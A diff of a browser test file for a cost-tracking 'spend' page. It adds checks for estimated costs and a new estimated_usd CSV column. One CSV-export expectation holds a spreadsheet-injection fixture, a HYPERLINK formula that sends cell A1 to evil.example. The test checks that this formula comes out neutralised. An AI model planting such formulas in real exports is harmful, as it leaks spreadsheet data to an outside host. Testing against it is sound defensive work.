@@ -85,6 +85,16 @@ describe.runIf(chromiumPath)("the spend page in Chromium", { timeout: 120_000 },
       cost_usd: 0.5,
       dedupe_key: "formula-model",
     });
+    // A runtime billed by its own meter: booked at the manifest's price, marked an estimate.
+    await db.knex("ledger").insert({
+      occurred_at: "2026-08-14T10:00:00Z",
+      source: "runtime",
+      user_id: ids.bob,
+      runtime: "cursor",
+      cost_usd: 0.5,
+      metadata: { cost_estimate: true },
+      dedupe_key: "cursor-run",
+    });
     await authorizer.close();
     await db.close();
     const port = await freePort();
@@ -118,15 +128,27 @@ describe.runIf(chromiumPath)("the spend page in Chromium", { timeout: 120_000 },
     await screenshot(ada, "spend");
   });
 
+  it("says which part of the spend is an estimate", async () => {
+    await ada.goto(`${base}/spend?group_by=runtime&from=2026-08-01&to=2026-08-31`);
+    await expect(ada.locator("#spend-estimated").innerText()).resolves.toBe("$0.50");
+    expect(await rows(ada)).toEqual([["cursor", "$0.50 ($0.50 estimated)", "100.0%", "0"]]);
+    await expect(ada.locator("main").innerText()).resolves.toContain(
+      "booked at the rate their agent's manifest sets",
+    );
+    await ada.goto(`${base}/spend?group_by=team&${NOVEMBER}`);
+    await expect(ada.locator("#spend-estimated").count()).resolves.toBe(0);
+  });
+
   it("filters with the form, and follows a group into the next breakdown", async () => {
     await ada.selectOption("#spend-group", "model");
     await ada.fill("#spend-team", "support");
     await ada.getByRole("button", { name: "Show" }).click();
     await ada.waitForURL(/group_by=model/);
     expect(new URL(ada.url()).searchParams.get("team")).toBe("support");
+    // r1's gpt-4o call came after its claude-sonnet report: the run counts under the first.
     expect(await rows(ada)).toEqual([
       ["claude-sonnet", "$3.25", "83.9%", "2"],
-      ["gpt-4o", "$0.50", "12.9%", "1"],
+      ["gpt-4o", "$0.50", "12.9%", "0"],
       ["claude-haiku", "$0.13", "3.2%", "1"],
     ]);
     await ada.getByRole("link", { name: "claude-sonnet" }).click();
@@ -146,17 +168,17 @@ describe.runIf(chromiumPath)("the spend page in Chromium", { timeout: 120_000 },
     );
     const lines = (await november.text()).split("\r\n");
     expect(lines.slice(0, 5)).toEqual([
-      "team,cost_usd,runs",
-      "research,4.5,3",
-      "support,3.875,3",
-      "(none),0.4375,1",
-      "total,8.8125,7",
+      "team,cost_usd,runs,estimated_usd",
+      "research,4.5,3,0",
+      "support,3.875,3,0",
+      "(none),0.4375,1,0",
+      "total,8.8125,7,0",
     ]);
     const september = await ada
       .context()
       .request.get(`${base}/spend.csv?group_by=model&from=2026-09-01&to=2026-09-30`);
     expect((await september.text()).split("\r\n")[1]).toBe(
-      `"'=HYPERLINK(""http://evil.example/?""&A1,""Open"")",0.5,0`,
+      `"'=HYPERLINK(""http://evil.example/?""&A1,""Open"")",0.5,0,0`,
     );
     await ada.goto(`${base}/spend?group_by=model&from=2026-09-01&to=2026-09-30`);
     expect((await rows(ada))[0]?.[0]).toBe(FORMULA_MODEL);
